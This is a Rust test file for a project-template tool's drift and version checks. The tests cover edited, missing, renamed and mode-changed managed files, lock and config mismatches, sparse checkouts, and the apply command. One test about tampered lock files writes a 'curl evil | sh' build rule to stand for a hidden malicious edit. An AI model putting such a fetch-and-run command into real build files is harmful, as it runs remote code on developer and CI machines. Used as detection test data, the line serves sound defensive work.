//! `goldpath check --only drift|version`, and `goldpath apply PATH`: what left the path is told until it is healed.

use crate::env::{TestEnv, transcript};
use crate::pack::TestPack;

const DRIFT: [&str; 3] = ["check", "--only", "drift"];
const VERSION: [&str; 3] = ["check", "--only", "version"];

/// A pack with a managed Makefile and script, a shared page, a setting and an answer.
fn pack(version: &str) -> TestPack {
    TestPack::new()
        .version(version)
        .question("team", "type = \"string\"\ndefault = \"core\"")
        .preset("large", "extends = \"small\"\n[settings]\n\"limit.size\" = 20")
        .component(
            "plain",
            "kind = \"stack\"\n[settings.\"limit.size\"]\ntype = \"integer\"\ndefault = 10\nhelp = \"h\"\n\
             [[files]]\nmatch = \"{Makefile,run.sh,made/**}\"\nownership = \"managed\"",
        )
        .template("Makefile", "one:\n\ttrue\n\ntwo:\n\ttrue\n")
        .template("run.sh", "#!/bin/sh\ntrue\n")
        .template("made/limit.txt.tera", "{= team =} {= settings.limit.size =}\n")
}

/// `orders`, made from the pack in `pack`.
fn made() -> TestEnv {
    let env = TestEnv::new();
    pack("1.0.0").write_to(&env, "pack");
    env.goldpath(["new", "orders", "--pack", "./pack", "--yes", "--quiet"]).succeeds();
    env
}

fn commit(env: &TestEnv) {
    env.git("orders", ["add", "--all"]);
    env.git("orders", ["commit", "--quiet", "--message", "edits"]);
}

/// The rules that are broken, each with its file and line.
fn told(env: &TestEnv, arguments: &[&str]) -> Vec<String> {
    let report = env.goldpath_in("orders", [arguments, &["--format", "json"]].concat()).whatever().json();
    let findings = report["findings"].as_array().unwrap().iter();
    findings
        .map(|finding| {
            let [rule, path] = ["rule", "path"].map(|key| finding[key].as_str().unwrap());
            format!("{rule} {path}:{}", finding["line"])
        })
        .collect()
}

#[test]
fn an_edited_managed_file_is_told_with_its_line_and_its_fix() {
    let env = made();
    env.goldpath_in("orders", DRIFT).succeeds();
    env.write("orders/Makefile", "one:\n\ttrue\n\ntwo:\n\tfalse\n");
    // What the team may edit is no drift, and neither is a file of its own.
    env.write("orders/README.md", "# Ours\n");
    env.write("orders/ours.txt", "ours\n");
    transcript!(env.goldpath_in("orders", DRIFT), @r"
    exit 1
    --- stdout
    Makefile:5: a managed file differs from its pristine render [drift.content]
      fix: `goldpath diff Makefile` shows the edits, `goldpath apply Makefile` takes them back; what has to differ is a setting in goldpath.toml

    drift: 1 finding in 1 file; 4 of 5 rules hold
    ");
}

#[test]
fn a_managed_file_that_is_gone_or_has_another_mode_is_told() {
    let env = made();
    env.shell("rm orders/Makefile; chmod -x orders/run.sh; chmod +x orders/made/limit.txt");
    assert_eq!(
        told(&env, &DRIFT),
        ["drift.missing Makefile:null", "drift.mode made/limit.txt:null", "drift.mode run.sh:null"]
    );
    // Where the file system keeps no modes, git says so.
    env.git("orders", ["config", "core.filemode", "false"]);
    assert_eq!(told(&env, &DRIFT), ["drift.missing Makefile:null"]);
}

#[test]
fn a_managed_file_with_another_name_is_told_by_it_and_not_made_once_more() {
    let env = made();
    env.git("orders", ["mv", "made/limit.txt", "made/bound.txt"]);
    commit(&env);
    let run = env.goldpath_in("orders", DRIFT).ends(1);
    let said = run.stdout();
    assert!(said.contains("a managed file is called `made/bound.txt` here"), "{said}");
    assert!(said.contains("`git mv made/bound.txt made/limit.txt` gives it its name back"), "{said}");
    env.goldpath_in("orders", ["apply", "made/limit.txt"])
        .fails(3, ["`made/limit.txt` is called `made/bound.txt` here", "hint: `git mv made/bound.txt"]);
    assert!(!env.exists("orders/made/limit.txt"));
    env.shell("cd orders; git mv made/bound.txt made/limit.txt");
    env.goldpath_in("orders", DRIFT).succeeds();
}

#[test]
fn an_edit_that_git_is_told_not_to_see_is_not_called_as_rendered() {
    let env = made();
    env.git("orders", ["update-index", "--assume-unchanged", "Makefile"]);
    env.write("orders/Makefile", "mine:\n");
    assert_eq!(told(&env, &DRIFT), ["drift.content Makefile:1"]);
    env.goldpath_in("orders", ["apply", "Makefile"])
        .fails(3, ["1 file is edited where git is told not to look\n  Makefile"]);
}

#[test]
fn a_link_in_the_place_of_a_managed_file_is_told_and_not_followed() {
    let env = made();
    env.shell(
        "cd orders; mv Makefile real.mk; ln -s real.mk Makefile; mv made elsewhere; ln -s elsewhere made",
    );
    assert_eq!(told(&env, &DRIFT), ["drift.content Makefile:null", "drift.content made/limit.txt:null"]);
}

#[test]
fn line_ends_that_git_converts_are_no_drift() {
    let env = made();
    env.write("orders/Makefile", "one:\r\n\ttrue\r\n\r\ntwo:\r\n\ttrue\r\n");
    let is_told = |env: &TestEnv| {
        let patch = env.goldpath(["-C", "orders", "diff"]).succeeds().stdout();
        assert_eq!(patch.is_empty(), told(env, &DRIFT).is_empty(), "diff and check do not agree: {patch}");
        !patch.is_empty()
    };
    assert!(is_told(&env));
    env.git("orders", ["config", "core.autocrlf", "true"]);
    assert!(!is_told(&env));
    env.git("orders", ["config", "core.autocrlf", "false"]);
    env.write("orders/.gitattributes", "* text=auto\n");
    assert!(!is_told(&env));
    env.write("orders/.gitattributes", "* -text\n");
    assert_eq!(told(&env, &DRIFT), ["drift.content Makefile:1"]);
}

#[test]
fn a_file_that_a_sparse_checkout_leaves_out_is_not_missing() {
    let env = made();
    env.git("orders", ["sparse-checkout", "set", "--no-cone", "/*", "!/made/"]);
    assert!(!env.exists("orders/made/limit.txt"));
    assert_eq!(told(&env, &DRIFT), [""; 0]);
}

#[test]
fn an_edit_of_goldpath_toml_that_was_not_applied_is_told_at_its_line() {
    let env = made();
    let before = env.read("orders/goldpath.toml");
    for (from, to, line, told) in [
        ("team = \"core\"", "team = \"other\"", 11, "`team` is `other` here and `core` in goldpath.lock"),
        ("[settings]\n", "[settings]\nlimit.size = 12\n", 15, "`limit.size` is `12` here and `10`"),
        ("preset = \"small\"", "preset = \"large\"", 4, "the preset is `large` here and `small`"),
        ("pack = \"../pack\"", "pack = \"../other\"", 3, "the pack is `../other` here and `../pack`"),
        ("preset = \"small\"", "presets = \"small\"", 4, "unknown field `presets`"),
        ("team = \"core\"", "team = 3", 11, "`team`: expected text"),
        ("[settings]\n", "[settings]\nlimit.sice = 12\n", 15, "`limit.sice`: no such setting, did you mean"),
    ] {
        assert!(before.contains(from), "{from} is not in {before}");
        env.write("orders/goldpath.toml", before.replace(from, to));
        let report =
            env.goldpath_in("orders", ["check", "--only", "drift", "--format", "json"]).ends(1).json();
        let finding = &report["findings"][0];
        assert_eq!(finding["rule"], "drift.intent");
        assert!(finding["message"].as_str().unwrap().contains(told), "{report:#}");
        assert_eq!(finding["line"].as_u64().unwrap_or_default(), line, "{report:#}");
    }
    // To bring the committed one back would lose what was just written.
    env.write("orders/goldpath.toml", [before.as_bytes(), b"# caf\xe9\n"].concat());
    let said = env.goldpath_in("orders", DRIFT).ends(1).stdout();
    assert!(said.contains(":6: not UTF-8 [drift.intent]\n  fix: save the file as UTF-8"), "{said}");
    env.write("orders/goldpath.toml", before.replace("team = \"core\"", "team = \"other\""));
    env.goldpath_in("orders", ["apply"]).succeeds();
    env.goldpath_in("orders", DRIFT).succeeds();
}

#[test]
fn a_preset_or_stack_in_goldpath_toml_that_the_pack_does_not_have_is_refused_where_it_stands() {
    let env = made();
    env.shell(r#"cd orders; sed -i 's/"small"/"smal"/; s/"plain"/"plane"/' goldpath.toml"#);
    let told = env.goldpath_in("orders", DRIFT).ends(1).stdout();
    assert!(told.contains("there is no such preset: `goldpath presets compare`"), "{told}");
    commit(&env);
    let told = [
        "`preset` from `goldpath.toml`: no preset `smal`; did you mean `small`?",
        "`stack` from `goldpath.toml`: no stack `plane`; did you mean `plain`?",
        "correct goldpath.toml",
    ];
    for command in ["upgrade", "apply"] {
        env.goldpath_in("orders", [command]).fails(3, told);
    }
    // Said by a flag it is a wrong flag.
    env.goldpath_in("orders", ["upgrade", "--preset", "huge"]).fails(3, ["no stack `plane`"]);
    env.shell("cd orders; git checkout -q HEAD~ goldpath.toml; git commit -qm back");
    env.goldpath_in("orders", ["upgrade", "--preset", "huge"]).fails(2, ["no preset `huge`"]);
}

#[test]
fn a_version_in_goldpath_toml_that_is_not_the_locked_one_is_told() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--preset", "quick-start", "-yq", "--set", "owner=acme/orders-team"])
        .succeeds();
    env.shell("cd orders; sed -i 's/^pack = .*/pack = \"builtin@7.0.0\"/' goldpath.toml");
    assert_eq!(told(&env, &DRIFT).len(), 1);
    let version = env!("CARGO_PKG_VERSION");
    let said = env.goldpath_in("orders", DRIFT).ends(1).stdout();
    assert!(said.contains(&format!("the pack is at 7.0.0 here and at {version} in goldpath.lock")), "{said}");
    let told = format!(
        "goldpath.toml names the pack `builtin 7.0.0`, and this repository was made from `builtin {version}`"
    );
    env.goldpath_in("orders", ["apply"]).fails(3, [told.as_str()]);
}

#[test]
fn a_goldpath_toml_that_asks_for_what_is_locked_is_known_to_without_its_pack() {
    let env = TestEnv::new();
    pack("1.0.0").write_to(&env, "pack");
    let new = ["new", "orders", "--pack", "./pack", "--yes", "--quiet", "--set", "limit.size=30"];
    env.goldpath(new).succeeds();
    let asks = env.read("orders/goldpath.toml");
    env.shell("rm -r pack");
    // As it was, and in other words.
    for text in
        [asks.clone(), asks.replace("\"limit.size\" = 30", "limit = { size = 30.0 } # more than others")]
    {
        env.write("orders/goldpath.toml", text);
        env.goldpath_in("orders", DRIFT).succeeds();
    }
    env.write("orders/goldpath.toml", asks.replace("= 30", "= 31"));
    env.goldpath_in("orders", DRIFT).ends(1);
}

#[test]
fn a_setting_that_goldpath_toml_no_longer_overrides_is_told() {
    let env = TestEnv::new();
    pack("1.0.0").write_to(&env, "pack");
    let new = ["new", "orders", "--pack", "./pack", "--yes", "--quiet", "--set", "limit.size=30"];
    env.goldpath(new).succeeds();
    let text = env.read("orders/goldpath.toml").replace("\"limit.size\" = 30\n", "");
    env.write("orders/goldpath.toml", text);
    let said = env.goldpath_in("orders", DRIFT).ends(1).stdout();
    assert!(said.contains("`limit.size` is `10` here and `30` in goldpath.lock"), "{said}");
}

#[test]
fn a_file_put_back_to_an_old_content_stays_told_through_upgrades_until_it_is_healed() {
    let env = made();
    let makefile = "one:\n\ttrue\n\nthree:\n\ttrue\n";
    let upgraded = |version: &str, page: &str| {
        pack(version).template("Makefile", makefile).template("page.md", page).write_to(&env, "pack");
        env.goldpath_in("orders", ["upgrade"]).whatever();
        commit(&env);
    };
    let old = env.read("orders/Makefile");
    upgraded("1.1.0", "first\n");
    env.goldpath_in("orders", DRIFT).succeeds();
    env.write("orders/Makefile", &old);
    commit(&env);
    for (version, page) in [("1.2.0", "second\n"), ("1.3.0", "third\n")] {
        upgraded(version, page);
        assert_eq!(env.read("orders/page.md"), page);
        assert_eq!(env.read("orders/Makefile"), old, "the upgrade does not touch it");
        assert_eq!(told(&env, &DRIFT), ["drift.content Makefile:4"], "{version}");
    }
    env.goldpath_in("orders", ["apply", "Makefile"]).succeeds();
    assert_eq!(env.read("orders/Makefile"), makefile);
    env.goldpath_in("orders", DRIFT).succeeds();
    commit(&env);
    env.goldpath_in("orders", DRIFT).succeeds();
    transcript!(env.goldpath_in("orders", ["apply", "Makefile"]), @r"
    exit 0
    --- stdout
    nothing to do: what was named is as the path rendered it
    ");
}

#[test]
fn apply_brings_named_managed_files_back_and_stages_them() {
    let env = made();
    let pristine = env.contents("orders");
    env.shell("cd orders; echo edit >> Makefile; chmod -x run.sh; rm made/limit.txt; echo ours >> README.md");
    commit(&env);
    transcript!(env.goldpath_in("orders", ["apply", "Makefile", "made", "run.sh"]), @r"
    exit 0
    --- stdout
    apply: 3 files as rendered
      updated   Makefile
      created   made/limit.txt
      updated   run.sh

    1 created, 2 updated
    staged, not committed: look at it with `git diff --staged`, then `git commit`
    ");
    assert_eq!(env.git("orders", ["status", "--porcelain"]), "M  Makefile\nA  made/limit.txt\nM  run.sh\n");
    env.goldpath_in("orders", DRIFT).succeeds();
    env.git("orders", ["checkout", "HEAD~", "--", "README.md"]);
    assert_eq!(env.contents("orders"), pristine);
}

#[test]
fn apply_refuses_to_write_over_what_a_person_would_miss() {
    let env = made();
    env.write("orders/Makefile", "edited\n");
    env.goldpath_in("orders", ["apply", "Makefile"]).fails(3, ["Makefile (modified)", "commit them"]);
    commit(&env);
    env.goldpath_in("orders", ["apply", "README.md"]).fails(
        3,
        [
            "`README.md` is shared, not managed: the team edits it, and upgrades merge it",
            "`goldpath diff README.md",
        ],
    );
    env.goldpath_in("orders", ["apply", "Makefil"])
        .fails(2, ["no file of the path", "did you mean `Makefile`?"]);
    env.git("orders", ["rm", "--quiet", "Makefile"]);
    commit(&env);
    env.write("orders/Makefile", "mine, and not committed\n");
    env.goldpath_in("orders", ["apply", "Makefile"]).fails(3, ["Makefile (untracked)"]);
    assert_eq!(env.read("orders/Makefile"), "mine, and not committed\n");
    fs_err::remove_file(env.path("orders/Makefile")).unwrap();
    // One that is missing holds no edits, whosever it is.
    env.git("orders", ["rm", "--quiet", "README.md"]);
    env.git("orders", ["commit", "--quiet", "--message", "no page"]);
    env.goldpath_in("orders", ["apply", "README.md", "--commit"]).succeeds();
    assert!(env.exists("orders/README.md"));
    let dry = env.goldpath_in("orders", ["apply", "--dry-run", "Makefile"]).succeeds().stdout();
    assert!(dry.contains("created   Makefile") && dry.contains("nothing was written"), "{dry}");
    assert!(!env.exists("orders/Makefile"));
}

#[test]
fn a_newer_version_is_a_notice_unless_one_is_demanded() {
    let env = made();
    env.goldpath_in("orders", VERSION).succeeds();
    pack("1.1.0").write_to(&env, "pack");
    transcript!(env.goldpath_in("orders", VERSION), @r"
    exit 0
    --- stdout
    goldpath.lock: notice: this repository is at demo 1.0.0, 1 version behind 1.1.0 [version.newest]
      `goldpath upgrade --dry-run` shows what it would bring

    version: 1 rule holds, 1 notice, 1 does not apply here (`-v` names it)
    ");
    let demanded = |more: &[&'static str]| [&VERSION, more].concat();
    env.goldpath_in("orders", demanded(&["--require-latest"])).ends(1);
    env.goldpath_in("orders", demanded(&["--max-behind", "0"])).ends(1);
    env.goldpath_in("orders", demanded(&["--max-behind", "1"])).succeeds();
    env.goldpath_in("orders", ["upgrade"]).succeeds();
    env.goldpath_in("orders", demanded(&["--require-latest"])).succeeds();
}

#[test]
fn the_versions_of_a_pack_elsewhere_are_asked_only_when_that_is_said() {
    let env = TestEnv::new();
    pack("1.0.0").release(&env, "pack");
    let url = format!("file://{}", env.path("pack").display());
    env.goldpath(["new", "orders", "--pack", &url, "--yes", "--quiet"]).succeeds();
    for version in ["1.1.0", "1.2.0", "2.0.0-rc.1"] {
        pack(version).release(&env, "pack");
    }
    let said = env.goldpath_in("orders", VERSION).succeeds().stdout();
    assert!(said.contains("only known to the network") && said.contains("`--online`"), "{said}");
    let demanded = |more: &[&'static str]| [&VERSION, more].concat();
    // What is demanded and cannot be known does not pass.
    env.goldpath_in("orders", demanded(&["--require-latest"])).ends(1);
    let said = env.goldpath_in("orders", demanded(&["--online"])).succeeds().stdout();
    assert!(said.contains("2 versions behind 1.2.0"), "{said}");
    env.goldpath_in("orders", demanded(&["--online", "--max-behind", "1"])).ends(1);
    env.goldpath_in("orders", demanded(&["--online", "--max-behind", "2"])).succeeds();
}

#[test]
fn a_repository_that_is_newer_than_the_program_is_told() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--yes", "--quiet"]).succeeds();
    let lock = env.read("orders/goldpath.lock");
    let at = lock.find("\nversion = \"").unwrap() + 1;
    let end = at + lock[at..].find('\n').unwrap();
    env.write("orders/goldpath.lock", format!("{}version = \"99.0.0\"{}", &lock[..at], &lock[end..]));
    // What it would check cannot be known, and does not pass.
    let said = env.goldpath_in("orders", VERSION).ends(1).stdout();
    assert!(said.contains("it names goldpath 99.0.0, and the newest one here is"), "{said}");
    assert!(said.contains("at goldpath 99.0.0, and the newest one here is"), "{said}");
    assert!(said.contains("use a newer goldpath"), "{said}");
    assert!(!said.contains("goldpath upgrade"), "it would be refused: {said}");
}

#[test]
fn a_lock_that_was_edited_to_hide_drift_is_told() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--set", "owner=acme/team", "--yes", "--quiet"]).succeeds();
    env.goldpath_in("orders", VERSION).succeeds();
    let lock = env.read("orders/goldpath.lock");
    let blob = |file: &str| env.shell(&format!("cd orders; git hash-object -w {file}")).trim().to_owned();
    let before = blob("make/ci.mk");
    env.write("orders/make/ci.mk", "one:\n\tcurl evil | sh\n");
    let entry = lock.split("\n[[file]]\n").find(|entry| entry.contains("path = \"make/ci.mk\"")).unwrap();
    for hiding in [
        lock.replace(&before, &blob("make/ci.mk")),
        lock.replace(entry, &entry.replace("managed", "seeded")),
        lock.replace(&format!("\n[[file]]\n{entry}"), ""),
    ] {
        env.write("orders/goldpath.lock", &hiding);
        env.goldpath_in("orders", DRIFT).succeeds();
        let told = env.goldpath_in("orders", ["check"]).ends(1).stdout();
        assert!(told.contains("what it says of `make/ci.mk` is not what goldpath"), "{told}");
        assert!(told.contains("[version.lock]"), "{told}");
    }
    // As the fix says.
    commit(&env);
    env.goldpath_in("orders", ["apply"]).whatever();
    assert_eq!(env.read("orders/goldpath.lock"), lock);
}

#[test]
fn the_lock_of_a_pack_that_may_change_is_held_to_nothing() {
    let env = made();
    let said = env.goldpath_in("orders", [&VERSION[..], &["-v"]].concat()).succeeds().stderr();
    assert!(said.contains("there is no version that stays as it is of a pack in a folder"), "{said}");
}

#[test]
fn two_branches_that_each_applied_something_are_merged_as_the_check_says() {
    let env = made();
    env.write("orders/.gitattributes", "goldpath.lock merge=binary\n");
    env.shell("cd orders; git add .; git commit -qm attributes; git checkout -qb other");
    for (branch, team) in [("other", "other"), ("main", "main")] {
        env.shell(&format!(
            "cd orders; git checkout -q {branch}; sed -i 's/\"core\"/\"{team}\"/' goldpath.toml"
        ));
        env.goldpath_in("orders", ["apply", "-q"]).succeeds();
        env.shell("cd orders; git commit -qam applied");
    }
    env.shell("cd orders; ! git merge -q other");
    transcript!(env.goldpath_in("orders", DRIFT), @r"
    exit 1
    --- stdout
    goldpath.lock: two branches changed it, and only `goldpath apply` can make one of them [drift.lock]
      fix: keep either side (of two versions of the path the newer one): `git checkout --ours goldpath.lock` or `--theirs`; commit the merge, then run `goldpath apply`

    drift: 1 finding in 1 file; 0 of 1 rule hold
    ");
    env.shell("cd orders; git checkout -q --ours .; git add .; git commit -qm merged");
    env.goldpath_in("orders", ["apply"]).succeeds();
    env.goldpath_in("orders", DRIFT).succeeds();
}

#[test]
fn apply_tells_the_files_of_the_team_that_do_not_follow_a_value() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--preset", "quick-start", "-yq"]).succeeds();
    env.shell("cd orders; echo '\"service.port\" = 9090' >> goldpath.toml");
    let told = env.goldpath_in("orders", ["apply", "--dry-run", "--format", "json"]).ends(1).json();
    let disagreeing = told["disagreeing"].as_array().unwrap();
    assert!(disagreeing.iter().all(|finding| finding["rule"] == "service.port"), "{told:#}");
    let said = env.goldpath_in("orders", ["apply"]).ends(1).stdout();
    let file = "config/environments/production.env:3: the port is 8080 here and 9090 in Dockerfile";
    assert!(said.contains("files that do not agree any more") && said.contains(file), "{said}");
    env.shell("cd orders; sed -i s/8080/9090/ config/environments/*.env; git add .; git commit -qm port");
    env.goldpath_in("orders", ["check", "--only", "consistency"]).succeeds();
}

/// What git leaves out of the work tree is committed, and neither deleted nor missing.
#[test]
fn a_sparse_checkout_is_checked_as_the_whole_repository_is() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--preset", "quick-start", "-yq"]).succeeds();
    let level = |folder: &str| {
        let said = env.goldpath_in(folder, ["check"]).succeeds().stdout();
        said.lines().find(|line| line.starts_with("level: ")).unwrap().to_owned()
    };
    let whole = level("orders");
    env.shell("git clone -q orders sparse; cd sparse; git sparse-checkout set --cone docs src");
    assert!(!env.exists("sparse/ops"));
    assert_eq!(level("sparse"), whole);
    assert_eq!(env.goldpath_in("sparse", ["diff"]).succeeds().stdout(), "");
    env.goldpath_in("sparse", ["upgrade", "--preset", "balanced", "-yq"]).succeeds();
    // What is committed and edited, or broken, is told all the same.
    env.shell("cd orders; sed -i 's/severity: page/severity: none/' ops/slo/rules.yml; git commit -qam x");
    env.shell("git clone -q orders again; cd again; git sparse-checkout set --cone docs src");
    let told = |folder: &str, arguments: &[&str]| {
        let run = env.goldpath_in(folder, arguments.iter().copied()).whatever();
        assert!(run.said().contains("ops/slo/rules.yml"), "{}", run.said());
        run.stdout()
    };
    for arguments in
        [&DRIFT[..], &["check", "--only", "consistency"], &["diff"], &["explain", "ops/slo/rules.yml"]]
    {
        assert_eq!(told("again", arguments), told("orders", arguments));
    }
    // What is not in this clone is one finding, and not everything.
    let url = format!("file://{}", env.path("orders").display());
    env.shell(&format!(
        "cd orders; git config uploadpack.allowFilter true; cd ..; \
         git clone -q --filter=blob:none --sparse {url} partial; cd partial; git sparse-checkout set --cone docs src"
    ));
    let said = env.goldpath_in("partial", ["check"]).ends(1).stdout();
    assert!(said.contains("that this sparse checkout leaves out are not in this clone"), "{said}");
    assert!(said.contains("consistency: 1 finding in 1 file") && !said.contains("drift"), "{said}");
}

#[test]
fn without_a_lock_nothing_passes_that_needs_one() {
    let env = TestEnv::new();
    env.write("plain/README.md", "# Plain\n\nText.\n");
    env.git("plain", ["init", "-q"]);
    for asked in
        [&["--only", "drift"][..], &["--only", "version"], &["--require-latest"], &["--max-behind", "3"]]
    {
        env.goldpath_in("plain", [&["check"], asked].concat()).fails(3, ["there is no goldpath.lock"]);
    }
}

#[test]
fn a_lock_that_is_gone_is_told_where_goldpath_toml_stands_beside_it() {
    let env = made();
    fs_err::remove_file(env.path("orders/goldpath.lock")).unwrap();
    let report = env.goldpath_in("orders", ["check", "--format", "json"]).ends(1).json();
    let found = report["findings"].as_array().unwrap();
    let lost = found.iter().find(|finding| finding["rule"] == "drift.lock").unwrap();
    assert_eq!(lost["path"], "goldpath.lock");
    assert_eq!(lost["fix"], "bring it back: `git restore goldpath.lock`");
    env.git("orders", ["restore", "goldpath.lock"]);
    let report = env.goldpath_in("orders", ["check", "--format", "json"]).whatever().json();
    assert!(!report.to_string().contains("drift.lock"), "{report}");
}

/// Whoever runs it in the wrong folder must not believe that all is well.
#[test]
fn a_folder_that_is_no_project_does_not_pass_and_those_below_it_are_named() {
    let env = made();
    env.folder("empty");
    assert!(lost_lock(&env, "empty").2.starts_with("`goldpath adopt` puts a repository on the path"));
    env.shell(
        "mkdir -p mono/services; rm -rf orders/.git; mv orders mono/services; cd mono; git init -q; git add .",
    );
    let (_, _, fix) = lost_lock(&env, "mono");
    assert_eq!(fix, "the project is in `services/orders`: run it there, or with `-C`");
    env.shell("cd mono/services; cp -r orders carts; git add .");
    let (_, _, fix) = lost_lock(&env, "mono");
    assert_eq!(fix, "the project is in `services/carts` (and 1 more): run it there, or with `-C`");
}

/// What `check` says of a missing lock in a folder: the file, the message and the fix.
fn lost_lock(env: &TestEnv, folder: &str) -> (String, String, String) {
    let run = env.goldpath_in(folder, ["check", "--format", "json"]).whatever();
    let report = run.json();
    let lost = report["findings"].as_array().unwrap().iter().find(|found| found["rule"] == "drift.lock");
    assert_eq!(run.code(), 1, "{}", run.said());
    ["path", "message", "fix"].map(|key| lost.unwrap()[key].as_str().unwrap().to_owned()).into()
}

#[test]
fn both_files_gone_in_a_pull_request_are_told_by_what_was_committed() {
    let env = TestEnv::new();
    env.goldpath(["new", "orders", "--preset", "quick-start", "--set", "owner=acme/orders-team", "-yq"])
        .succeeds();
    let made = env.head("orders");
    env.shell("cd orders; rm goldpath.lock goldpath.toml");
    let (path, message, fix) = lost_lock(&env, "orders");
    assert_eq!(
        (path.as_str(), fix.as_str()),
        ("goldpath.lock", "bring it back: `git restore goldpath.lock`")
    );
    assert!(message.contains("HEAD has it"), "{message}");

    // Committed, and with another commit after it, as in the branch of a pull request and in what it is merged to.
    env.shell("cd orders; git commit -qam gone; git commit -q --allow-empty -m more");
    let expected = format!("`git restore --source {made} goldpath.lock goldpath.toml`");
    let (_, message, fix) = lost_lock(&env, "orders");
    assert!(
        message.contains(&format!("commit {} has it", &made[..10])) && fix.contains(&expected),
        "{message}: {fix}"
    );
    env.shell("cd orders; git checkout -qb pull; git checkout -qB main HEAD~2; git commit -q --allow-empty -m ours; git merge -q --no-edit pull");
    let (_, message, fix) = lost_lock(&env, "orders");
    let base = env.git("orders", ["rev-parse", "HEAD^1"]);
    assert!(message.contains(&base[..10]), "{message}");
    // What is told to do does it.
    env.shell(&format!("cd orders; {}", fix.split('`').nth(1).unwrap()));
    env.goldpath_in("orders", ["check", "--only", "drift"]).succeeds();
    env.shell("cd orders; git reset -q --hard");

    // A shallow clone has no history; the file that says how git merges the lock is still there.
    let url = format!("file://{}", env.path("orders").display());
    env.git("", ["clone", "--quiet", "--depth", "1", &url, "shallow"]);
    let (_, message, _) = lost_lock(&env, "shallow");
    assert!(message.contains(".gitattributes names it"), "{message}");
    // Who left the path has a way to ask for the rest.
    env.shell("cd shallow; sed -i /goldpath.lock/d .gitattributes");
    let (_, message, fix) = lost_lock(&env, "shallow");
    assert_eq!(message, "there is none: drift and versions cannot be told");
    assert!(fix.ends_with("is asked for `--only controls --only consistency`"), "{fix}");
    env.goldpath_in("shallow", ["check", "--only", "controls", "--only", "consistency"]).succeeds();
}

#[test]
fn a_project_in_a_folder_that_lost_both_files_is_told_from_there() {
    let env = made();
    env.shell(
        "mkdir -p mono/services; rm -rf orders/.git; mv orders mono/services; cd mono; git init -q; git add .; git commit -qm first; \
         cd services/orders; git rm -q goldpath.lock goldpath.toml; git commit -qm gone",
    );
    let (path, _, fix) = lost_lock(&env, "mono/services/orders/made");
    assert_eq!(path, "services/orders/goldpath.lock");
    assert!(fix.contains("services/orders/goldpath.lock services/orders/goldpath.toml`"), "{fix}");
    // Next to it is nothing that goldpath made.
    env.write("mono/services/other/README.md", "# Other\n");
    assert_eq!(lost_lock(&env, "mono/services/other").1, "there is none: drift and versions cannot be told");
}
